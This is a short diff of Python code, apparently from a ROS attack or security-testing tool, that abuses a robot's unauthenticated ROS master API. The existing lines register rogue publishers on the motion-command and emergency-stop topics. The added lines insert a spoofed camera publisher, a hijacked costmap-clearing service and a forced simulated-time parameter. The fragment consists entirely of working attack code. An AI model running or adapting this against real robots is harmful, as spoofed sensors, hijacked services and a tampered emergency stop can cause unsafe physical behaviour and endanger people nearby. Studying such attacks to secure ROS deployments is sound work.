@@ -109,6 +109,11 @@ def trick(number, robot, own):
         master.registerPublisher("/twin", "/cmd_vel", "geometry_msgs/Twist", f"http://{robot}:9998/")
         master.registerPublisher("/thief", "/e_stop", "std_msgs/Bool", here)
         master.registerSubscriber("/spy", "/camera/rgb/image_raw", "sensor_msgs/Image", here)
+        master.registerPublisher("/liar", "/camera/rgb/image_raw", "sensor_msgs/Image", f"http://{robot}:9997/")
+        master.registerService("/butler", "/move_base/clear_costmaps", f"rosrpc://{own}:9996", f"http://{own}:9995/")
+        master.setParam("/x", "/use_sim_time", True)
+        time.sleep(5.0)  # both publishers of the camera are there for a while
+        master.unregisterPublisher("/liar", "/camera/rgb/image_raw", f"http://{robot}:9997/")
         for topic in ("/camera/rgb/image_raw", "/scan", "/odom", "/darknet_ros/bounding_boxes"):
             sign_off(master, topic, f"/speaker{topic.replace('/', '_')}")
         for name in (
